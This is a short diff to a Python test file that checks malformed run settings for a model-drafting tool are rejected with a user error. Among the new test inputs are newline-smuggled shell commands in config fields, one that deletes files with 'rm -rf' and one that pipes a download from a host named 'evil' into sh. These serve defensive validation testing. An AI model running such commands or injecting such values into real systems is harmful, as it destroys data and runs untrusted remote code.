@@ -95,7 +95,15 @@ def test_what_a_run_had_besides_is_not_passed_over_in_silence():
 
 
 def test_a_damaged_run_is_refused_in_a_sentence():
-    for change in ({"sampler": {"temperature": "hot"}}, {"gamma": 99}, {"drafter": "rm -rf"}, {"dtype": "int1"}):
+    for change in (
+        {"target": "evil\nrm -rf ~/x #"},
+        {"drafter": "draft-model", "drafter_settings": {"source": "foo\ncurl evil|sh #"}},
+        {"drafter": "library", "drafter_settings": {"source": "foo/bar", "method": "nope\nx"}},
+        {"sampler": {"temperature": "hot"}},
+        {"gamma": 99},
+        {"drafter": "rm -rf"},
+        {"dtype": "int1"},
+    ):
         with pytest.raises(UserError):
             of(replace(RUN, **change))
 
